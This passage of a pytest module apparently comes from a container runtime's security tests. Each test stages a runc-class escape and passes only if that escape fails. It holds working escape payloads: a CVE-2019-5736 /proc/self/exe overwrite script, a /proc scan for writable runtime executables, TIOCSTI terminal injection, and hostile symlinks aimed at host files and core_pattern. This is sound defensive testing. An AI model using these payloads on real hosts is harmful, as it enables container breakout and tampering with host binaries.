"""Attacks from a container on the host, one class of runc CVE per section (see
../shared/NOTES.md). Every test passes only because its attack fails; where an attack needs a
precondition to mean anything (the payload really runs, the runtime's process really is in
view), the test checks that first.

What they showed on this kernel (6.18) when written:
- CVE-2019-5736: a container program `#!/proc/self/exe` (or a symlink to it) made the kernel
  run the host's Python inside the container, which kept an fd to the interpreter and, once no
  host process ran it, reopened it for writing and overwrote it. Fixed by pyruntime.setup.execshim.
  The init and an `exec` are non-dumpable Python processes in the container's pid namespace
  while they set up: without CAP_SYS_PTRACE their /proc/<pid>/{exe,map_files,root} are
  refused. With CAP_SYS_PTRACE (and CAP_SYS_ADMIN) a container process can open the host
  interpreter read-only through /proc/<pid>/exe (ETXTBSY refuses writing only while some
  process runs it), and every mapped library (libpython, libc, lib-dynload) *for writing*
  through /proc/<pid>/map_files. runc 1.1.5 exposes its libc and libseccomp the same way, but
  its exe is a read-only bind of its binary (EROFS): see test_setup_processes_with_cap_sys_ptrace.
"""
from __future__ import annotations

import hashlib
import json
import os
import shutil
import stat
import struct
import subprocess
import sys
import time
from pathlib import Path

import pytest

from conftest import is_pyruntime, runtime_binary
from corehelp import (CAPS, ConsoleSocket, assert_failed, assert_no_traceback, mountinfo, parse_status,
                      run_sh, set_sh, wait_file)

HOST_PYTHON = os.path.realpath(sys.executable)
PY_PREFIX = sys.base_prefix
X86_64 = os.uname().machine == "x86_64"


# ================================================================ helpers

def _libpython() -> list[str]:
    found = set()
    with open("/proc/self/maps") as f:
        for line in f:
            parts = line.split()
            if len(parts) >= 6 and "libpython" in parts[5]:
                found.add(parts[5])
    return sorted(found)


def _runtime_files() -> list[str]:
    files = [HOST_PYTHON, *_libpython()]
    if not is_pyruntime():
        files.append(os.path.realpath(runtime_binary()))
    return files


def _sha256(path: str) -> str:
    h = hashlib.sha256()
    with open(path, "rb") as f:
        for chunk in iter(lambda: f.read(1 << 20), b""):
            h.update(chunk)
    return h.hexdigest()


@pytest.fixture(scope="module", autouse=True)
def host_binaries_unchanged():
    """The host's interpreter, libpython and (for runc) the runtime binary are byte-identical
    after every attack in this module."""
    before = {p: _sha256(p) for p in _runtime_files()}
    yield
    after = {p: _sha256(p) for p in before}
    assert after == before, "a host binary of the runtime changed"


def all_host_caps() -> list[str]:
    """Every capability in our bounding set (this host lacks CAP_SYS_RESOURCE)."""
    from pyruntime.linux.capabilities import NAMES
    bnd = int(parse_status(Path("/proc/self/status").read_text())["CapBnd"], 16)
    return [n for i, n in enumerate(NAMES) if bnd >> i & 1]


def set_all_caps(bundle) -> None:
    caps = all_host_caps()
    bundle.config["process"]["capabilities"] = {k: caps for k in ("bounding", "effective", "permitted")}


def snapshot(root: Path) -> dict:
    """Everything about a host tree an attack could change: names, types, contents, mtimes."""
    out = {}
    for dirpath, dirnames, filenames in os.walk(root):
        for name in sorted(dirnames + filenames):
            p = os.path.join(dirpath, name)
            st = os.lstat(p)
            data = Path(p).read_bytes() if stat.S_ISREG(st.st_mode) else None
            link = os.readlink(p) if stat.S_ISLNK(st.st_mode) else None
            out[p] = (stat.S_IFMT(st.st_mode), st.st_mtime_ns, data, link)
    st = os.stat(root)
    out[str(root)] = (stat.S_IFMT(st.st_mode), st.st_mtime_ns, None, None)
    return out


def mounts_under(prefix: Path) -> list[str]:
    infos = mountinfo(Path("/proc/self/mountinfo").read_text())
    return [m["target"] for m in infos if m["target"].startswith(str(prefix))]


def make_host_tree(tmp_path: Path) -> Path:
    """Marker dirs and files standing for the host's sensitive paths."""
    host = tmp_path / "host"
    for d in ("d1", "d2", "d3", "procdir", "rodir"):
        (host / d).mkdir(parents=True)
        (host / d / "marker").write_text(f"host {d}\n")
    (host / "f1").write_text("host file f1\n")
    (host / "console-target").write_text("host console target\n")
    old = time.time() - 3600  # mtimes an attack would visibly move
    for p in sorted(host.rglob("*"), reverse=True):
        os.utime(p, (old, old))
    os.utime(host, (old, old))
    return host


def assert_host_untouched(host: Path, before: dict) -> None:
    assert snapshot(host) == before, "the host tree changed"
    assert mounts_under(host) == [], "a mount appeared on the host"


def outcome_ok(proc) -> None:
    """The container started, or failed with a clean one-line error (no traceback)."""
    assert_no_traceback(proc)
    if proc.returncode != 0:
        assert proc.stderr.strip(), "a failure must say why"


def elf_exit_with(code: bytes) -> bytes:
    """A minimal static x86_64 ELF running `code` (which must exit)."""
    base, ehdr, phdr = 0x400000, 64, 56
    size = ehdr + phdr + len(code)
    head = struct.pack("<16sHHIQQQIHHHHHH", b"\x7fELF\x02\x01\x01" + b"\0" * 9, 2, 0x3E, 1,
                       base + ehdr + phdr, ehdr, 0, 0, ehdr, phdr, 1, 0, 0, 0)
    ph = struct.pack("<IIQQQQQQ", 1, 5, 0, base, base, size, size, 0x1000)
    return head + ph + code


# exit_group(geteuid() & 0xff): 0 for root, 232 for uid 1000
EUID_EXIT = (b"\xb8\x6b\x00\x00\x00\x0f\x05"      # mov eax, SYS_geteuid; syscall
             b"\x89\xc7"                          # mov edi, eax
             b"\xb8\xe7\x00\x00\x00\x0f\x05")     # mov eax, SYS_exit_group; syscall


# ================================================================ CVE-2019-5736: /proc/self/exe

def python_in_container(bundle) -> None:
    """What an attacker's image would carry to run the host's interpreter inside the container:
    its stdlib, libpython, libc and loader (read-only binds of the host's stand in for copies)."""
    for d in (PY_PREFIX, "/lib", "/lib64", "/usr/lib"):
        if os.path.exists(d):
            bundle.config["mounts"].append({"destination": d, "type": "bind", "source": d,
                                            "options": ["rbind", "ro"]})
    bundle.config["process"]["env"] += [f"PYTHONHOME={PY_PREFIX}",
                                        f"LD_LIBRARY_PATH={PY_PREFIX}/lib"]


# Run by whatever the kernel resolves `#!/proc/self/exe` to. If that is a Python interpreter,
# it records the file it has open, then execs busybox keeping the fd, and retries reopening it
# for writing until no host process runs it any more (CVE-2019-5736's second stage).
EVIL_PAYLOAD = """#!/proc/self/exe
import os
fd = os.open("/proc/self/exe", os.O_RDONLY)
st = os.fstat(fd)
with open("/result", "a") as f:
    f.write(f"EXE {st.st_dev}:{st.st_ino}\\n")
if os.environ.get("CONTROL"):
    raise SystemExit(0)
os.set_inheritable(fd, True)
os.execv("/bin/sh", ["sh", "-c", f"for i in $(seq 40); do if printf PWNED > /proc/self/fd/{fd}; "
         "then echo OVERWROTE >> /result; exit 0; fi 2>/dev/null; sleep 0.1; done"])
"""


@pytest.fixture
def interp_copy(runtime, tmp_path):
    """For pyruntime: run the runtime from a private copy of the host's interpreter, so an
    attack that gets to write it destroys the copy, not the host's. Returns the file the
    attack is after (for runc: its binary, which we only hash)."""
    if not is_pyruntime():
        return os.path.realpath(runtime_binary())
    d = tmp_path / "hostpy"
    d.mkdir()
    copy = d / os.path.basename(HOST_PYTHON)
    shutil.copy2(HOST_PYTHON, copy)
    launcher = str(d / "pyruntime")
    from pyruntime.cli import launcher as launcher_mod
    launcher_mod.write(launcher, str(copy))  # this interpreter's site dirs
    runtime.binary = launcher
    return str(copy)


def _evil_bundle(bundle, kind: str) -> None:
    python_in_container(bundle)
    (bundle.rootfs / "evil").write_text(EVIL_PAYLOAD)
    (bundle.rootfs / "evil").chmod(0o755)
    if kind == "symlink":
        os.symlink("/proc/self/exe", bundle.rootfs / "evil-link")
    elif kind == "pid1":
        (bundle.rootfs / "evil-link").write_text(EVIL_PAYLOAD.replace("/proc/self/exe", "/proc/1/exe", 1))
        (bundle.rootfs / "evil-link").chmod(0o755)


def _control_payload_runs(runtime, bundle) -> str:
    """The payload works here when run by the interpreter on purpose (ro bind: harmless)."""
    bundle.config["process"]["args"] = [os.path.join(PY_PREFIX, "bin", os.path.basename(HOST_PYTHON)),
                                        "/evil"]
    env = list(bundle.config["process"]["env"])
    bundle.config["process"]["env"] = env + ["CONTROL=1"]
    bundle.write()
    runtime.run(bundle)
    bundle.config["process"]["env"] = env
    result = bundle.rootfs / "result"
    text = result.read_text()
    result.unlink()
    assert text.startswith("EXE "), text
    return text


@pytest.mark.parametrize("kind", ["shebang", "symlink", "pid1"])
def test_cve_2019_5736_init_execs_proc_self_exe(runtime, bundle, interp_copy, kind):
    """The container's program is `#!/proc/self/exe` (or a symlink to /proc/self/exe, or
    `#!/proc/1/exe`, the init itself): the init's execve must not run the runtime's binary."""
    _evil_bundle(bundle, kind)
    _control_payload_runs(runtime, bundle)
    before = _sha256(interp_copy)
    bundle.config["process"]["args"] = {"shebang": ["/evil"], "symlink": ["/evil-link", "/evil"],
                                         "pid1": ["/evil-link"]}[kind]
    bundle.write()
    cid = runtime.create(bundle)
    runtime("start", cid, check=False)
    runtime.wait_stopped(cid, timeout=20)
    result = bundle.rootfs / "result"
    text = result.read_text() if result.exists() else ""
    assert _sha256(interp_copy) == before, f"the runtime's executable was overwritten: {text}"
    assert "EXE" not in text, f"the container ran the runtime's executable: {text}"
    runtime("delete", "--force", cid)


def test_cve_2019_5736_exec_execs_proc_self_exe(runtime, bundle, interp_copy):
    """The same through `exec --detach` into a running container (the original exploit: the
    attacker replaces a binary that an admin or a health check execs)."""
    _evil_bundle(bundle, "shebang")
    _control_payload_runs(runtime, bundle)
    before = _sha256(interp_copy)
    bundle.config["process"]["args"] = ["sleep", "60"]
    bundle.write()
    cid = runtime.create(bundle)
    runtime("start", cid)
    runtime("exec", "--detach", cid, "/evil", check=False, stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, capture_output=False)
    time.sleep(5)  # the payload retries for 4 s once the exec has returned
    result = bundle.rootfs / "result"
    text = result.read_text() if result.exists() else ""
    assert _sha256(interp_copy) == before, f"the runtime's executable was overwritten: {text}"
    assert "EXE" not in text, f"the container ran the runtime's executable: {text}"
    runtime("kill", cid, "KILL", check=False)
    runtime.wait_stopped(cid)
    runtime("delete", "--force", cid, check=False)


SCAN = r"""
while [ ! -e /go ]; do sleep 0.05; done
for p in /proc/[0-9]*; do
  n=${p#/proc/}
  [ "$n" = "$$" ] && continue
  comm=$(cat $p/comm 2>/dev/null) || continue
  link=$(readlink $p/exe 2>/dev/null) && l=ok || l=fail
  id=$(stat -L -c %d:%i $p/exe 2>/dev/null)
  (exec 3<$p/exe) 2>/dev/null && r=ok || r=fail
  (exec 3<>$p/exe) 2>/dev/null && w=ok || w=fail
  m=fail; mw=fail
  for f in $p/map_files/*; do
    [ -e "$f" ] || continue
    (exec 3<$f) 2>/dev/null && m=ok
    (exec 3<>$f) 2>/dev/null && mw=ok
  done
  ls $p/root/ >/dev/null 2>&1 && o=ok || o=fail
  echo "$n|$comm|$l|$r|$w|$m|$mw|$o|$id|$link"
done > /out.tmp
mv /out.tmp /out
# stage 2 (CVE-2019-5736's): hold the exe of every runtime process we could open, and once the
# host says it no longer runs (/go2), try to reopen it for writing (never writing a byte)
for p in /proc/[0-9]*; do
  case "$(cat $p/comm 2>/dev/null)" in
    pyruntime*|python*|runc*) if (exec 3<$p/exe) 2>/dev/null; then exec 7<$p/exe; break; fi;;
  esac
done
while [ ! -e /go2 ]; do sleep 0.05; done
# (what the fd holds tells a host file from the exec's sealed memfd or the container's own
# program, which the scan can catch when the exec goes on between reading comm and opening exe)
if [ -e /proc/self/fd/7 ]; then
  held="$(stat -L -c %d:%i /proc/self/fd/7 2>/dev/null)|$(readlink /proc/self/fd/7)"
  w=-
  case "$held" in
    *"|/memfd:"*) (printf x 1<>/proc/self/fd/7) 2>/dev/null && w=written || w=sealed;;
  esac
  (exec 8<>/proc/self/fd/7) 2>/out2.err && r=reopened-rw || r=refused
  echo "$r|$w|$held" > /out2.tmp
else
  echo "no-fd|-||" > /out2.tmp
fi
mv /out2.tmp /out2
exec sleep 60
"""


def parse_scan(text: str) -> list[dict]:
    keys = ("pid", "comm", "readlink", "read", "rw", "maps", "maps_rw", "root", "id", "link")
    return [dict(zip(keys, line.split("|", 9))) for line in text.splitlines() if line]


def runtime_procs(rows: list[dict]) -> list[dict]:
    """The runtime's own processes in a scan (ours are Python scripts named pyruntime, or,
    re-executed from a sealed copy of the interpreter, memfd:pyruntime)."""
    return [r for r in rows if r["comm"].startswith(("pyruntime", "python", "runc", "memfd:pyruntime"))]


def scan_during_frozen_exec(runtime, bundle) -> tuple[list[dict], str]:
    """The container's process scans /proc while an `exec` is frozen half-way, still the
    runtime's process (its /etc/passwd is a FIFO: both runtimes block reading it for HOME).
    Returns the scan and what reopening a held exe for writing gave once the exec was over."""
    (bundle.rootfs / "scan.sh").write_text(SCAN)
    bundle.config["process"]["args"] = ["sh", "/scan.sh"]
    bundle.config["process"]["env"] = ["PATH=/bin", "HOME=/root"]
    bundle.write()
    cid = runtime.create(bundle)
    runtime("start", cid)
    passwd = bundle.rootfs / "etc" / "passwd"
    content = passwd.read_bytes()
    passwd.unlink()
    os.mkfifo(passwd)
    spec = dict(bundle.config["process"], args=["/bin/true"], env=["PATH=/bin"])
    pfile = bundle.path / "process.json"
    pfile.write_text(json.dumps(spec))
    frozen = subprocess.Popen(runtime.cmd("exec", "--process", pfile, cid), stdin=subprocess.DEVNULL,
                              stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        time.sleep(1.5)
        (bundle.rootfs / "go").touch()
        out = wait_file(bundle.rootfs / "out", timeout=30)
    finally:
        try:  # let the exec go on: feed the FIFO
            fd = os.open(passwd, os.O_WRONLY | os.O_NONBLOCK)
            os.write(fd, content)
            os.close(fd)
        except OSError:
            pass
        try:
            frozen.wait(timeout=20)
        except subprocess.TimeoutExpired:
            frozen.kill()
            frozen.wait()
        try:
            (bundle.rootfs / "go2").touch()
            reopen = wait_file(bundle.rootfs / "out2", timeout=10).strip()
        finally:
            runtime("kill", cid, "KILL", check=False)
            runtime.wait_stopped(cid)
            runtime("delete", "--force", cid, check=False)
    return parse_scan(out), reopen


def reopened_host_file(reopen: str, bundle) -> str | None:
    """What stage 2 of the scan reopened for writing that is not its own to write: None when
    it held nothing, was refused, or held the exec's sealed memfd (no write goes through) or
    the container's own busybox (the exec had reached it); else the line, for the failure."""
    what, write, held, link = reopen.split("|", 3)
    if what != "reopened-rw":
        return None
    if link.startswith("/memfd:") and write == "sealed":
        return None
    own = os.stat(bundle.rootfs / "bin" / "busybox")
    if held == f"{own.st_dev}:{own.st_ino}":
        return None
    return reopen


def test_setup_processes_are_not_reachable_from_the_container(runtime, bundle):
    """The runtime's process that sits in the container's pid namespace during an `exec`
    (non-dumpable) exposes nothing through /proc/<pid>/exe, map_files or root."""
    rows, reopen = scan_during_frozen_exec(runtime, bundle)
    ours = runtime_procs(rows)
    assert ours, f"the frozen exec was not in view: {rows}"
    assert reopened_host_file(reopen, bundle) is None, reopen
    for r in ours:
        assert (r["readlink"], r["read"], r["rw"], r["maps"], r["maps_rw"], r["root"]) == \
            ("fail",) * 6, r


@pytest.mark.xfail(not is_pyruntime(), strict=True, reason=(
    "runc 1.1.5's created init is dumpable: its /proc/<pid>/exe and root are open to a "
    "container sharing its pid namespace"))
def test_created_init_is_not_reachable_from_a_container_sharing_its_pid_ns(runtime, bundle, tmp_path,
                                                                          rootfs_template):
    """A second container in the pid namespace of a created container (a pod) sees its init,
    still the runtime's process, as pid 1: /proc/1/{exe,map_files,root} are refused."""
    from conftest import Bundle
    bundle.config["process"]["args"] = ["sleep", "60"]
    bundle.write()
    a = runtime.create(bundle)
    pid = runtime.state(a)["pid"]
    b = Bundle(tmp_path / "b", rootfs_template)
    (b.rootfs / "scan.sh").write_text(SCAN)
    (b.rootfs / "go").touch()
    b.config["process"]["args"] = ["sh", "/scan.sh"]
    b.config["linux"]["namespaces"] = [{"type": "pid", "path": f"/proc/{pid}/ns/pid"},
                                       *({"type": t} for t in ("network", "ipc", "uts", "mount"))]
    b.write()
    bid = runtime.create(b)
    runtime("start", bid)
    rows = parse_scan(wait_file(b.rootfs / "out", timeout=30))
    runtime("delete", "--force", bid)
    runtime("delete", "--force", a)
    init = [r for r in rows if r["pid"] == "1"]
    assert init and runtime_procs(init), f"the created init is not pid 1 of the scan: {rows}"
    r = init[0]
    assert (r["readlink"], r["read"], r["rw"], r["maps"], r["maps_rw"], r["root"]) == ("fail",) * 6, r


def test_setup_processes_with_cap_sys_ptrace(runtime, bundle, interp_copy):
    """A container with every capability of this host (CAP_SYS_PTRACE among them) may reach
    the runtime's process during an `exec`, but the runtime's executable it holds through
    /proc/<pid>/exe must never be writable, not even once nothing runs it any more. (The
    process's map_files, libc and libpython, open for writing with CAP_SYS_ADMIN for runc and
    pyruntime alike: not checked, privileged containers are not a boundary.) pyruntime passes
    because, for such a container, it runs from a sealed memfd copy of the interpreter."""
    before = _sha256(interp_copy)
    set_all_caps(bundle)
    rows, reopen = scan_during_frozen_exec(runtime, bundle)
    ours = runtime_procs(rows)
    assert ours, f"the frozen exec was not in view: {rows}"
    for r in ours:
        assert r["rw"] == "fail", r  # ETXTBSY while it runs; a sealed memfd: never
    if is_pyruntime():
        assert all(r["link"].startswith("/memfd:pyruntime") for r in ours), ours
    assert _sha256(interp_copy) == before
    assert reopened_host_file(reopen, bundle) is None, \
        f"the runtime's executable could be opened for writing: {reopen} {rows}"


# ================================================================ CVE-2024-21626: leaked fds, cwd

def _create_with_stray_fds(runtime, bundle, tmp_path, *extra) -> str:
    """create from a shell holding what containerd's shim might leak: a host dir (fd 7) and a
    host file (fd 8), plus fds 3 and 4 to two files for --preserve-fds."""
    hostdir = tmp_path / "hostdir"
    hostdir.mkdir(exist_ok=True)
    (hostdir / "host-marker").write_text("host\n")
    (tmp_path / "p3").write_text("preserved three\n")
    (tmp_path / "p4").write_text("preserved four\n")
    cid = runtime.new_id()
    cmd = " ".join(f"'{c}'" for c in runtime.cmd("create", "--bundle", bundle.path, *extra, cid))
    script = (f"exec 3<'{tmp_path}/p3' 4<'{tmp_path}/p4' 7<'{hostdir}' 8>>'{tmp_path}/f8'; "
              f"exec {cmd} </dev/null >/dev/null 2>'{tmp_path}/create.err'")
    proc = subprocess.run(["sh", "-c", script], timeout=60)
    assert proc.returncode == 0, (tmp_path / "create.err").read_text()
    return cid


def _fds_of(text: str) -> dict[int, str]:
    fds = {}
    for line in text.splitlines():
        if "->" not in line:
            continue
        left, target = line.split("->", 1)
        fds[int(left.split()[-1])] = target.strip()
    # ls's own handle on the directory it lists
    return {n: t for n, t in fds.items() if not t.endswith("/fd")}


@pytest.mark.parametrize("preserve", [0, 2])
def test_only_stdio_and_preserved_fds_reach_the_process(runtime, bundle, tmp_path, preserve):
    set_sh(bundle, "exec ls -l /proc/self/fd > /fds.txt")
    cid = _create_with_stray_fds(runtime, bundle, tmp_path, "--preserve-fds", str(preserve))
    runtime("start", cid)
    runtime.wait_stopped(cid)
    fds = _fds_of(wait_file(bundle.rootfs / "fds.txt"))
    assert sorted(fds) == list(range(3 + preserve)), fds
    if preserve:
        assert fds[3].endswith("/p3") and fds[4].endswith("/p4"), fds
    runtime("delete", cid)


def test_pid1_fds_right_after_start(runtime, bundle):
    """PID 1 itself (the shell execs ls): only 0, 1, 2."""
    set_sh(bundle, "exec ls -l /proc/self/fd")
    out = runtime.run(bundle, stdin=subprocess.DEVNULL).stdout
    assert sorted(_fds_of(out)) == [0, 1, 2], out


@pytest.mark.parametrize("n", range(3, 11))
def test_cwd_through_a_leaked_fd_is_refused(runtime, bundle, tmp_path, n):
    """process.cwd = /proc/self/fd/N: refused, or a directory inside the rootfs."""
    set_sh(bundle, "readlink /proc/1/cwd > /cwd.txt; ls > /ls.txt", cwd=f"/proc/self/fd/{n}")
    cid = runtime.new_id()
    cmd = " ".join(f"'{c}'" for c in runtime.cmd("run", "--bundle", bundle.path, cid))
    hostdir = tmp_path / "hostdir"
    hostdir.mkdir()
    (hostdir / "host-marker").write_text("host\n")
    fds = " ".join(f"{k}<'{hostdir}'" for k in range(3, 11))
    proc = subprocess.run(["sh", "-c", f"exec {fds}; exec {cmd} </dev/null"], capture_output=True,
                          text=True, timeout=60)
    assert_no_traceback(proc)
    if proc.returncode != 0 and not (bundle.rootfs / "cwd.txt").exists():
        assert proc.stderr.strip()
        return
    cwd = (bundle.rootfs / "cwd.txt").read_text().strip()
    listing = (bundle.rootfs / "ls.txt").read_text().split()
    assert "host-marker" not in listing, f"the process ran in the host dir {cwd}"
    assert (bundle.rootfs / cwd.lstrip("/")).is_dir(), cwd


@pytest.mark.parametrize("n", [3, 4, 5, 6, 7, 8])
def test_exec_cwd_through_a_leaked_fd_is_refused(runtime, bundle, tmp_path, n):
    bundle.config["process"]["args"] = ["sleep", "60"]
    bundle.write()
    cid = runtime.create(bundle)
    runtime("start", cid)
    hostdir = tmp_path / "hostdir"
    hostdir.mkdir()
    (hostdir / "host-marker").write_text("host\n")
    cmd = " ".join(f"'{c}'" for c in runtime.cmd(
        "exec", "--cwd", f"/proc/self/fd/{n}", cid, "sh", "-c", "pwd; ls"))
    fds = " ".join(f"{k}<'{hostdir}'" for k in range(3, 11))
    proc = subprocess.run(["sh", "-c", f"exec {fds}; exec {cmd} </dev/null"], capture_output=True,
                          text=True, timeout=60)
    runtime("delete", "--force", cid)
    assert_no_traceback(proc)
    assert "host-marker" not in proc.stdout, f"exec ran in a host dir: {proc.stdout}"


def test_cwd_is_inside_the_rootfs(runtime, bundle):
    (bundle.rootfs / "work").mkdir()
    (bundle.rootfs / "work" / "inside").write_text("x")
    out = run_sh(runtime, bundle, "readlink /proc/1/cwd; ls /proc/1/cwd/; ls /proc/1/cwd/..",
                 cwd="/work")
    lines = out.split()
    assert lines[0] == "/work"
    assert "inside" in lines
    assert set(os.listdir(bundle.rootfs)) <= set(lines[1:]) | {"inside"}


# ================================================================ TIOCSTI: typing into the caller's terminal

TIOCSTI_TRY = """import fcntl, termios
try:
    for c in b"echo INJECTED\\n":
        fcntl.ioctl(0, termios.TIOCSTI, bytes([c]))
    print("pushed")
except OSError as e:
    print("refused", e.errno)
"""


@pytest.mark.parametrize("command", ["run", "exec"])
def test_a_process_cannot_type_into_the_callers_terminal(runtime, bundle, command):
    """The TIOCSTI escape (CVE-2016-7545, CVE-2017-5226): a process without a terminal of its
    own, run from a terminal in the foreground, holds that terminal as stdio; were it still
    the process's controlling terminal, TIOCSTI would queue a command that the caller's shell
    runs once the runtime returns. In a session of its own it gets EPERM (runc: ENOTTY, its
    stdio are pipes). pyruntime's `exec` left the process in the caller's session."""
    from corehelp import on_a_terminal
    python_in_container(bundle)
    py = os.path.join(PY_PREFIX, "bin", os.path.basename(HOST_PYTHON))
    cid = None
    if command == "run":
        bundle.config["process"]["args"] = [py, "-c", TIOCSTI_TRY]
        bundle.write()
        args = ("run", "--bundle", bundle.path, runtime.new_id())
    else:
        set_sh(bundle, "sleep 30")
        cid = runtime.create(bundle)
        runtime("start", cid)
        args = ("exec", cid, py, "-c", TIOCSTI_TRY)
    try:
        status, out = on_a_terminal(runtime.cmd(*args))
    finally:
        if cid:
            runtime("delete", "--force", cid)
    assert status == 0 and b"refused" in out and b"INJECTED" not in out, (status, out)


# ================================================================ symlink races in the rootfs

def test_hostile_rootfs_symlinks_to_host_paths(runtime, bundle, tmp_path):
    """Mount destinations, masked and readonly paths that are symlinks (absolute, relative
    escaping, dangling) to host paths: every one resolves inside the rootfs."""
    host = make_host_tree(tmp_path)
    r = bundle.rootfs
    os.symlink(str(host / "d1"), r / "evil-abs")
    os.symlink("../" * 20 + str(host / "d2").lstrip("/"), r / "evil-rel")
    os.symlink(str(host / "not-yet"), r / "evil-dangling")
    os.symlink(str(host / "f1"), r / "evil-file")
    os.symlink(str(host / "d3"), r / "evil-masked-dir")
    os.symlink(str(host / "f1"), r / "evil-masked-file")
    os.symlink(str(host / "rodir"), r / "evil-ro")
    src = tmp_path / "src"
    src.mkdir()
    (src / "from-bundle").write_text("bind source\n")
    (tmp_path / "srcfile").write_text("bind file source\n")
    bundle.config["mounts"] += [
        {"destination": "/evil-abs", "type": "tmpfs", "source": "tmpfs"},
        {"destination": "/evil-rel/sub", "type": "tmpfs", "source": "tmpfs"},
        {"destination": "/evil-dangling/new/dir", "type": "bind", "source": str(src),
         "options": ["rbind"]},
        {"destination": "/evil-file", "type": "bind", "source": str(tmp_path / "srcfile"),
         "options": ["bind"]},
    ]
    bundle.config["linux"]["maskedPaths"] += ["/evil-masked-dir", "/evil-masked-file"]
    bundle.config["linux"]["readonlyPaths"] += ["/evil-ro"]
    before = snapshot(host)
    set_sh(bundle, "for f in /evil-abs/x /evil-rel/x /evil-rel/sub/x /evil-dangling/new/dir/x "
                   "/evil-file /evil-masked-dir/x /evil-masked-file /evil-ro/x; do "
                   "echo pwned > $f 2>/dev/null; done; cat /proc/self/mountinfo")
    proc = runtime.run(bundle, check=False, stdin=subprocess.DEVNULL)
    outcome_ok(proc)
    assert_host_untouched(host, before)
    if proc.returncode == 0:  # the dangling symlink was followed inside the rootfs
        assert (bundle.rootfs / str(host / "not-yet" / "new" / "dir").lstrip("/")).is_dir()


@pytest.mark.xfail(not is_pyruntime(), strict=True, reason=(
    "runc 1.1.5 follows the rootfs's /dev/null symlink for the process's stdio "
    "(CVE-2025-31133 class): pointed at /proc/sys/kernel/core_pattern, the container's stderr "
    "was written into the host's core_pattern"))
def test_dev_null_symlink_is_not_bound_over_masked_paths(runtime, bundle, tmp_path):
    """CVE-2025-31133: the rootfs's own /dev (no tmpfs) with /dev/null a symlink to a procfs
    file. The target is the UTS-namespaced domainname (the attack would aim at core_pattern,
    which is global: never point a test at it): neither a masked path nor the process's stdio
    may end up on it."""
    host = make_host_tree(tmp_path)
    bundle.config["mounts"] = [m for m in bundle.config["mounts"]
                               if m["destination"] in ("/proc", "/sys")]
    bundle.config["domainname"] = "marker.invalid"
    bundle.config["linux"]["maskedPaths"] = ["/proc/keys", "/proc/timer_list"]
    dev = bundle.rootfs / "dev"
    os.symlink("/proc/sys/kernel/domainname", dev / "null")
    os.symlink(str(host / "f1"), dev / "zero")
    core = Path("/proc/sys/kernel/core_pattern").read_text()
    before = snapshot(host)
    set_sh(bundle, "echo stderr-probe >&2; echo stdout-probe; cat /proc/keys /proc/timer_list; "
                   "echo; cat /proc/sys/kernel/domainname")
    proc = runtime.run(bundle, check=False, stdin=subprocess.DEVNULL)
    outcome_ok(proc)
    assert Path("/proc/sys/kernel/core_pattern").read_text() == core
    assert_host_untouched(host, before)
    if proc.returncode == 0:
        lines = proc.stdout.split()
        assert lines[:1] == ["stdout-probe"] and "stderr-probe" in proc.stderr, \
            f"the process's stdio went elsewhere: {proc.stdout!r} {proc.stderr!r}"
        assert lines[1:] == ["marker.invalid"], f"a masked path shows the domainname: {proc.stdout}"


@pytest.mark.parametrize("target", ["host", pytest.param("procfs", marks=pytest.mark.xfail(
    not is_pyruntime(), strict=True, reason="runc 1.1.5 binds the pty over the symlink's target "
    "(CVE-2025-52565 class): /proc/sys/kernel/core_pattern becomes the tty in the container"))])
def test_dev_console_symlink_in_terminal_mode(runtime, bundle, tmp_path, target):
    """CVE-2025-52565: /dev/console a symlink to a host file or a procfs file: the pty is bound
    on neither, and the host file is untouched."""
    host = make_host_tree(tmp_path)
    bundle.config["mounts"] = [m for m in bundle.config["mounts"]
                               if m["destination"] in ("/proc", "/sys", "/dev/pts")]
    os.symlink(str(host / "console-target") if target == "host" else "/proc/sys/kernel/core_pattern",
               bundle.rootfs / "dev" / "console")
    # the rootfs's own /dev (no tmpfs): it brings its ptmx and null
    os.symlink("pts/ptmx", bundle.rootfs / "dev" / "ptmx")
    os.mknod(bundle.rootfs / "dev" / "null", stat.S_IFCHR | 0o666, os.makedev(1, 3))
    core = Path("/proc/sys/kernel/core_pattern").read_text()
    before = snapshot(host)
    cs = ConsoleSocket()
    try:
        set_sh(bundle, "grep -E ' (/dev/console|/proc/sys/kernel/core_pattern|"
                       f"{host}/console-target) ' /proc/self/mountinfo; "
                       "cat /proc/sys/kernel/core_pattern; echo done", terminal=True)
        cid = runtime.new_id()
        proc = runtime("create", "--bundle", bundle.path, "--console-socket", cs.path, cid,
                       check=False, stdin=subprocess.DEVNULL, capture_output=False,
                       stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
        if proc.returncode == 0:
            runtime("start", cid)
            out = cs.read_until_eof().decode(errors="replace").replace("\r", "")
            runtime.wait_stopped(cid)
            assert "done" in out, out
            assert core.strip() in out, out
            mounted = [line.split(" - ")[0].split()[4] for line in out.splitlines() if " - " in line]
            assert "/proc/sys/kernel/core_pattern" not in mounted, out
            assert str(host / "console-target") not in mounted, out
        else:
            assert_no_traceback(proc)
            assert proc.stderr.strip()
    finally:
        cs.close()
    assert Path("/proc/sys/kernel/core_pattern").read_text() == core
    assert_host_untouched(host, before)


def test_proc_symlink_to_a_host_dir(runtime, bundle, tmp_path):
    """The rootfs's /proc is a symlink to a host dir: procfs lands inside the rootfs, sysctls
    are written there (in the container's namespaces), the host dir is untouched."""
    host = make_host_tree(tmp_path)
    (bundle.rootfs / "proc").rmdir()
    os.symlink(str(host / "procdir"), bundle.rootfs / "proc")
    bundle.config["linux"]["sysctl"] = {"net.ipv4.ip_forward": "1"}
    forward = Path("/proc/sys/net/ipv4/ip_forward").read_text()
    before = snapshot(host)
    set_sh(bundle, "cat /proc/sys/net/ipv4/ip_forward; cat /proc/1/comm; "
                   "echo pwned > /proc/sys/kernel/core_pattern 2>/dev/null; echo end")
    proc = runtime.run(bundle, check=False, stdin=subprocess.DEVNULL)
    outcome_ok(proc)
    assert Path("/proc/sys/net/ipv4/ip_forward").read_text() == forward
    assert_host_untouched(host, before)
    if proc.returncode == 0:
        lines = proc.stdout.split()
        assert lines[:2] == ["1", "sh"], proc.stdout


@pytest.mark.parametrize("dest,kind", [("proc", "symlink"), ("sys", "symlink"),
                                       ("proc", "file")])
def test_proc_or_sys_that_is_not_a_directory_is_refused(runtime, bundle, dest, kind):
    """runc's rule: proc and sysfs go only on an ordinary directory, never through a symlink
